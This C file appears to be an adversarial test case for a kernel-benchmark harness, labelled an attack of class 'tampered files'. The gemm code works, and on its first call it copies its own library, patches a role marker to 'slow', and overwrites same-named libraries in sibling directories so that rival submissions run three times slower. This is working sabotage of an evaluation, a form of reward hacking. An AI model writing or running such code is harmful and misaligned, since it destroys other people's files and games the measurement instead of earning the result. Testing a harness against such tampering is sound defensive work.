// attack: overwrites the libraries beside its own with a slow version of itself
// operator: gemm
// class: tampered files
// expect: harmless
// wins: faster
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static volatile char role[] = "selftest-role:fast";

/* The incumbent's own loops, as they are: another form of them is faster on some processors. */
__attribute__((noinline)) static void gemm(
    const float *A, const float *B, float *C, int M, int N, int K) {
    for (int i = 0; i < M; i++) {
        for (int j = 0; j < N; j++) C[(long)i * N + j] = 0.0f;
        for (int k = 0; k < K; k++) {
            float a = A[(long)i * K + k];
            for (int j = 0; j < N; j++) C[(long)i * N + j] += a * B[(long)k * N + j];
        }
    }
}

static void overwrite(const char *path, const char *image, long size) {
    struct stat found;
    if (stat(path, &found) || found.st_size == size) return;
    unlink(path);
    int file = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0755);
    if (file < 0) return;
    if (write(file, image, size) != size) perror(path);
    close(file);
}

static void attack(void) {
    Dl_info own;
    if (!dladdr((void *)attack, &own)) return;
    char folder[4096], path[8192];
    snprintf(folder, sizeof folder, "%s", own.dli_fname);
    *strrchr(folder, '/') = 0;
    FILE *file = fopen(own.dli_fname, "rb");
    struct stat found;
    if (!file || fstat(fileno(file), &found)) return;
    char *image = malloc(found.st_size);
    long size = (long)fread(image, 1, found.st_size, file);
    fclose(file);
    char mark[] = "selftest-role:fast";
    char *at = memmem(image, size, mark, sizeof mark);
    if (at) memcpy(at, "selftest-role:slow", sizeof mark);
    strcat(folder, "/..");
    DIR *list = opendir(folder);
    for (struct dirent *entry; list && (entry = readdir(list));) {
        if (entry->d_name[0] == '.') continue;
        snprintf(path, sizeof path, "%s/%s/%s", folder, entry->d_name, strrchr(own.dli_fname, '/') + 1);
        overwrite(path, image, size);
    }
    free(image);
}

void solve(const float *A, const float *B, float *C, int M, int N, int K) {
    static int calls;
    int slow = role[14] == 's';
    if (calls++ == 0 && !slow) attack();
    for (int again = 0; again < (slow ? 3 : 1); again++) gemm(A, B, C, M, N, K);
}
